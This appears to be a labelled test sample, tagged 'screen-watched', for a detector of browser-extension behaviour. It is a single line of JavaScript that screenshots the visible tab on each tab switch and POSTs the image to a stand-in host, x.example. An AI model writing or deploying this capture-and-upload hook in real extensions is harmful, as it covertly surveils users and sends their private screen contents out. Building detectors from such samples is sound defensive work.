// expect: screen-watched
chrome.tabs.onActivated.addListener(()=>setTimeout(()=>chrome.tabs.captureVisibleTab(d=>{var f=new XMLHttpRequest;f.open("POST","https://x.example/u");f.send(d)}),500));
